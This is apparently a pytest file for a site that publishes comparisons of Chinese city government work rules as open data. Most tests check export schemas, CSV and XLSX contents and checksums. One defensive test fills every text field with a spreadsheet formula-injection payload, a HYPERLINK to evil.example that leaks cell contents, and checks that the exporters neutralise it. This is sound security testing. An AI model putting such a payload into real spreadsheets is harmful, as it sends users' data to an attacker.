"""Open data: every download validates against its generated schema, CSVs re-read, the page lists them."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re

import jsonschema
import pytest

from rulebook.build import bookcache
from rulebook.model.schema import CellStatus
from rulebook.views import exports, links


@pytest.mark.parametrize("name", list(exports.JSON_FILES))
def test_json_downloads_validate_against_their_schema(built_site, name):
    data = json.loads((built_site / "data" / name).read_text(encoding="utf-8"))
    schema = json.loads(
        (built_site / "data/schema" / name.replace(".json", ".schema.json")).read_text(encoding="utf-8")
    )
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(data, schema)
    rows = data if isinstance(data, list) else data["rows"]
    bad_row = {**rows[0], next(iter(rows[0])): 12345}  # first field with the wrong type
    broken = [bad_row] if isinstance(data, list) else {**data, "rows": [bad_row]}
    with pytest.raises(jsonschema.ValidationError):  # the row schema really constrains
        jsonschema.validate(broken, schema)


def _csv(path):
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM"
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


def test_csv_downloads_re_read(built_site, book):
    articles = _csv(built_site / "data/articles.csv")
    assert len(articles) == sum(len(c.articles()) for c in book.cities.values())
    row = next(r for r in articles if r["city"] == "zhuzhou" and r["n"] == "44")
    assert "半数以上" in row["text"] and row["url"] == "cities/zhuzhou/#art_44"
    corrections = _csv(built_site / "data/corrections.csv")
    assert len(corrections) == sum(len(c.corrections) for c in book.cities.values())
    assert any(r["before"] == "相关部部门" and r["after"] == "相关部门" for r in corrections)
    comparisons = _csv(built_site / "data/comparisons.csv")
    assert len(comparisons) == sum(len(f.attributes) for f in book.facts.values()) * len(book.cities)


def test_data_page_lists_every_file_with_size_and_sha256(built_site):
    html = (built_site / "data/index.html").read_text(encoding="utf-8")
    files = [p for p in (built_site / "data").rglob("*") if p.is_file() and p.name != "index.html"]
    assert len(files) >= 9
    for path in files:
        rel = str(path.relative_to(built_site / "data"))
        data = path.read_bytes()
        assert f'href="{rel}"' in html
        assert hashlib.sha256(data).hexdigest() in html
        assert f"{len(data):,} 字节" in html


def test_cities_json_records_sources(built_site, book):
    cities = json.loads((built_site / "data/cities.json").read_text(encoding="utf-8"))
    by_id = {c["id"]: c for c in cities}
    assert by_id["zhuzhou"]["complete"] is False and by_id["zhuzhou"]["truncation"]["article"] == 50
    assert by_id["liyang"]["supersedes"][0]["doc_number"] == "溧政发〔2012〕121号"
    assert all(c["source_sha256"] == book.city(c["id"]).source.sha256 for c in cities)
    # 时效性 with the date it was checked (none of the five has one recorded: null, not guessed)
    assert all(c["status_as_of"] is None and c["status"] == "未核实" for c in cities)
    checked = book.city("jixi").model_copy(update={"status_as_of": "2026-11-30"})
    record = exports._city_record(checked).model_dump(mode="json")
    assert record["status_as_of"] == "2026-11-30" and record["status_note"] == book.city("jixi").status_note


def test_each_topic_has_a_wide_csv_and_xlsx_linked_from_its_page(built_site, book):
    from openpyxl import load_workbook

    for topic in book.topics():
        page = (built_site / "compare" / topic.id / "index.html").read_text(encoding="utf-8")
        if topic.id not in book.facts:  # a topic without a comparison file still renders, without files
            assert f"data/topics/{topic.id}." not in page and not (built_site / f"data/topics/{topic.id}.csv").exists()
            continue
        attrs = book.facts[topic.id].attributes
        for kind in ("csv", "xlsx", "quotes", "concordance"):
            path = f"data/{links.topic_downloads(topic.id)[kind]}"
            assert f'href="../../{path}"' in page, (topic.id, kind)
        rows = _csv(built_site / f"data/topics/{topic.id}.csv")
        assert [r["城市"] for r in rows] == [c.name for c in book.ordered_cities()]
        schema = json.loads((built_site / f"data/schema/topics/{topic.id}.schema.json").read_text(encoding="utf-8"))
        jsonschema.Draft202012Validator.check_schema(schema)
        for r in rows:
            jsonschema.validate(r, schema)
        wb = load_workbook(built_site / f"data/topics/{topic.id}.xlsx")
        assert wb.sheetnames == ["比较", "引文"]
        ws = wb["比较"]
        assert ws.freeze_panes == "B2"
        header = [c.value for c in ws[1]]
        assert header[0] == "城市" and len(header) == len(rows[0])
        assert ws.max_row == len(book.cities) + 1
        for a in attrs:  # every attribute is a column; every city's value carries its 第X条
            # exact: one attribute's label can start another's (突发事件报告, 突发事件报告时限)
            col = next(h for h in header if h == a.label or h.startswith(a.label + "（"))
            for c, r in zip(book.ordered_cities(), rows, strict=True):
                cell = a.cells[c.id]
                text = r[col]
                if cell.status == CellStatus.value:
                    assert text.startswith(cell.value) and re.search(r"（第[一二三四五六七八九十百]+条", text), text
                    cites = text.rsplit("（", 1)[1].rstrip("）").split("、")
                    assert len(cites) == len(set(cites)), text  # each article once
                else:
                    assert text == cell.status.value
        n_quotes = sum(len(a.cells[c].quotes()) for a in attrs for c in book.cities)
        assert sum(1 for r in wb["引文"].iter_rows(min_row=2) if r[4].value) == n_quotes


def test_spreadsheet_links_are_absolute_with_site_url(book):
    sheet = exports.topic_sheet(book, "meetings", "https://rules.example.gov.cn/rules/")
    row = sheet.rows[[c.id for c in book.ordered_cities()].index("zhuzhou")]
    link_col = sheet.headers.index("常务会议法定人数·条文链接")
    assert row[link_col] == "https://rules.example.gov.cn/rules/cities/zhuzhou/#art_44"
    assert "第四十四条" in row[link_col - 1] and "四十四、" not in row[link_col - 1]
    assert exports.topic_sheet(book, "meetings").rows[0][link_col].startswith("cities/")  # no site_url: relative
    data = exports.sheet_xlsx(sheet)
    assert data == exports.sheet_xlsx(sheet)  # reproducible: same bytes, same SHA-256 on the data page
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(data))["比较"]
    links = [c.hyperlink.target for r in ws.iter_rows(min_row=2) for c in r if c.hyperlink]
    assert "https://rules.example.gov.cn/rules/cities/zhuzhou/#art_44" in links


def test_concordance_workbook_lists_each_provision_with_its_sources(book, alignment):
    import openpyxl

    from rulebook.views import article_grid, exports

    topic = "meetings"
    data = exports.concordance_xlsx(book, alignment, topic, "https://rules.example.org/")
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert wb.sheetnames == ["逐条对照", "出处", "说明"]
    ws = wb["逐条对照"]
    names = [c.name for c in book.ordered_cities()]
    assert [c.value for c in ws[1]] == ["组", *names]
    rows = article_grid.groups(book, topic, alignment)
    assert ws.max_row == len(rows) + 1
    # the 常务会议 row: each city's article, its text, linked to the article on the site
    first = rows[0]
    for col, c in enumerate(book.ordered_cities(), start=2):
        cell = ws.cell(row=2, column=col)
        if c.id in first:
            assert cell.value.endswith(c.article(first[c.id]).text())
            assert cell.hyperlink.target == f"https://rules.example.org/cities/{c.id}/#art_{first[c.id]}"
        else:
            assert cell.value in (None, "")
    sources = {r[0].value: r[3].value for r in wb["出处"].iter_rows(min_row=2)}
    assert sources["株洲市"] == "《株洲市人民政府工作规则》（株政发〔2022〕1号）"
    assert "机器建议" in wb["说明"]["A1"].value
    assert data == exports.concordance_xlsx(book, alignment, topic, "https://rules.example.org/")  # reproducible


def test_downloads_are_made_one_file_at_a_time_into_a_cache_folder_that_is_whole_or_absent(tmp_path):
    """cache.derived_files writes each file as it is made (the next is asked for only after), keeps them for
    the next build, and a make that fails half-way leaves no folder a later build would take as complete."""
    from conftest import copy_project

    project = copy_project(tmp_path / "p")
    written: list[list[str]] = []

    def make(fail: bool = False):
        for name in ("a.json", "topics/b.csv", "c.xlsx"):
            folder = next(project.glob(".cache/.downloads-*.tmp"), None)
            files = folder.rglob("*") if folder else []
            written.append(sorted(str(p.relative_to(folder)) for p in files if p.is_file()))
            if fail and name == "c.xlsx":
                raise RuntimeError("disk full")
            yield name, f"{name} 内容" if name != "c.xlsx" else b"\x00\x01"

    with pytest.raises(RuntimeError):
        bookcache.derived_files(project, "downloads", "", lambda: make(fail=True))
    assert not list((project / ".cache").glob("*downloads-*"))  # nothing complete-looking, no half folder
    written.clear()
    got = bookcache.derived_files(project, "downloads", "", make)
    assert written == [[], ["a.json"], ["a.json", "topics/b.csv"]]  # each written before the next is made
    assert list(got) == ["a.json", "topics/b.csv", "c.xlsx"]
    assert got["topics/b.csv"].read_text(encoding="utf-8") == "topics/b.csv 内容"
    assert got["c.xlsx"].read_bytes() == b"\x00\x01"
    assert bookcache.derived_files(project, "downloads", "", lambda: iter(())) == got  # kept: not made again


# --- issue 30 (1): every spreadsheet cell is data, never a formula -----------------------------------

_STARTS = ("=", "+", "-", "@", "\t", "\r")
_KEEP = {"id", "file", "sha256", "captured_from", "kind"}  # keys and paths the downloads look things up by


def _poisoned(book):
    """A copy of the book with a formula payload at the start of every text field (names, notes, values,
    quotes, province, labels, paragraphs, corrections), each formula character in turn."""
    import copy

    from pydantic import BaseModel

    book = copy.deepcopy(book)
    count = iter(range(10**9))

    def payload(text: str) -> str:
        start = _STARTS[next(count) % 5]  # not CR: the schema refuses it in data (the writers neutralise it too)
        return f'{start}HYPERLINK("http://evil.example/?leak="&A2,"点此核对原文"){text}'

    seen: set[int] = set()

    def walk(obj) -> None:
        if id(obj) in seen:
            return
        seen.add(id(obj))
        if isinstance(obj, BaseModel):
            for name in type(obj).model_fields:
                value = getattr(obj, name)
                if isinstance(value, str) and name not in _KEEP and not isinstance(value, enum.Enum):
                    setattr(obj, name, payload(value))
                else:
                    walk(value)
        elif isinstance(obj, dict):
            for v in obj.values():
                walk(v)
        elif isinstance(obj, list | tuple):
            for v in obj:
                walk(v)

    import enum

    walk(list(book.cities.values()))
    walk(list(book.facts.values()))
    walk(getattr(book, "topic_list", None) or [])
    return book


def test_no_download_holds_a_formula_even_when_every_field_starts_like_one(book, alignment):
    import openpyxl

    poisoned = _poisoned(book)
    files = exports.download_files(poisoned, alignment, "https://rules.example.org/")
    csv_fields = payloads_in_csv = formula_cells = payload_cells = 0
    for name, data in files.items():
        if name.endswith(".csv"):
            assert data.startswith("\ufeff")
            for row in csv.reader(io.StringIO(data[1:])):
                for field in row:
                    csv_fields += 1
                    assert not field.startswith(_STARTS), (name, field[:60])
                    payloads_in_csv += field.startswith(tuple("'" + s for s in _STARTS))
            # every text field is quoted (OWASP); a bare field is a number
            for line in data[1:].split("\r\n")[1:3]:
                assert line == "" or line.startswith(('"', *"0123456789")), (name, line[:60])
        elif name.endswith(".xlsx"):
            wb = openpyxl.load_workbook(io.BytesIO(data))
            for ws in wb.worksheets:
                for row in ws.iter_rows():
                    for cell in row:
                        formula_cells += cell.data_type == "f"
                        if isinstance(cell.value, str) and cell.value.startswith(_STARTS):
                            payload_cells += 1
                            assert cell.data_type == "s" and cell.quotePrefix, (name, cell.coordinate)
    assert formula_cells == 0
    # the payloads did reach the files (as text): names, notes, values, quotes, province, labels
    assert payloads_in_csv > 500 and payload_cells > 100, (payloads_in_csv, payload_cells)
    every_csv = "".join(v for k, v in files.items() if k.endswith(".csv"))
    for start in _STARTS[:5]:  # each formula character arrived, neutralised
        assert f"'{start}HYPERLINK(" in every_csv, repr(start)


def test_number_columns_are_numbers_with_a_format_and_the_unit_in_the_header(book):
    import openpyxl

    sheet = exports.topic_sheet(book, "meetings")
    ws = openpyxl.load_workbook(io.BytesIO(exports.sheet_xlsx(sheet)))["比较"]
    header = [c.value for c in ws[1]]
    number_cols = [i for i, h in enumerate(header) if "·数值" in h]
    assert number_cols and all(re.search(r"·数值（.+）$", header[i]) for i in number_cols), header
    numbers = [r[i] for r in ws.iter_rows(min_row=2) for i in number_cols if r[i].value not in (None, "")]
    assert numbers and all(c.data_type == "n" and isinstance(c.value, int | float) for c in numbers)
    assert all(c.number_format in ("0", "0.0##") for c in numbers)
    zhuzhou = book.facts["meetings"]
    attr = next(a for a in zhuzhou.attributes if a.unit)
    col = header.index(f"{attr.label}·数值（{attr.unit}）")
    for c, r in zip(book.ordered_cities(), ws.iter_rows(min_row=2), strict=True):
        expected = attr.cells[c.id].number
        assert (r[col].value in (None, "")) if expected is None else r[col].value == expected
    # and in the CSV a number is bare (unquoted), so a spreadsheet reads it as a number
    text = exports.sheet_csv(sheet)
    assert re.search(r",\d+(,|\r\n)", text)


def test_whole_corpus_files_assembled_from_city_parts_equal_the_files_made_at_once(book, alignment):
    """articles/cities/corrections/alignment .json and .csv are written from one part per city (kept per
    city by the build): piece by piece they make exactly the file pydantic and the CSV writer make whole,
    also when a city has no rows for a file (no corrections) and when there is no city at all."""
    import copy

    whole = {
        "articles.json": exports._json(exports.ArticlesFile(exports.article_rows(book))),
        "cities.json": exports._json(exports.CitiesFile(exports.city_records(book))),
        "alignment.json": exports._json(exports.alignment_file(book, alignment)),
        "alignment.csv": exports._csv(
            exports.ALIGNMENT_CSV_FIELDS, exports.alignment_rows(exports.alignment_file(book, alignment))
        ),
    }
    cities = book.ordered_cities()
    parts = [exports.city_parts(book, alignment, c) for c in cities]
    for name, text in whole.items():
        assert "".join(exports.assembled(name, [p[name] for p in parts])) == text, name
    files = exports.download_files(book, alignment)
    assert all(files[name] == text for name, text in whole.items())
    # a city without corrections has an empty part; the file is the header and the others' rows
    bare = copy.deepcopy(book)
    bare.cities[cities[0].id].corrections.clear()
    rows = exports.download_files(bare, alignment)["corrections.csv"]
    assert rows == exports._csv(exports.CORRECTION_FIELDS, [r for c in cities[1:] for r in exports._corrections(c)])
    assert len(rows.splitlines()) > 2
    for name in exports.CITY_FILES:  # no city: an empty list, an empty rows list, a header
        empty = "".join(exports.assembled(name, []))
        if name.endswith(".json"):
            assert json.loads(empty) in ([], {**json.loads(whole["alignment.json"]), "rows": []})
        else:
            assert empty.count("\r\n") == 1
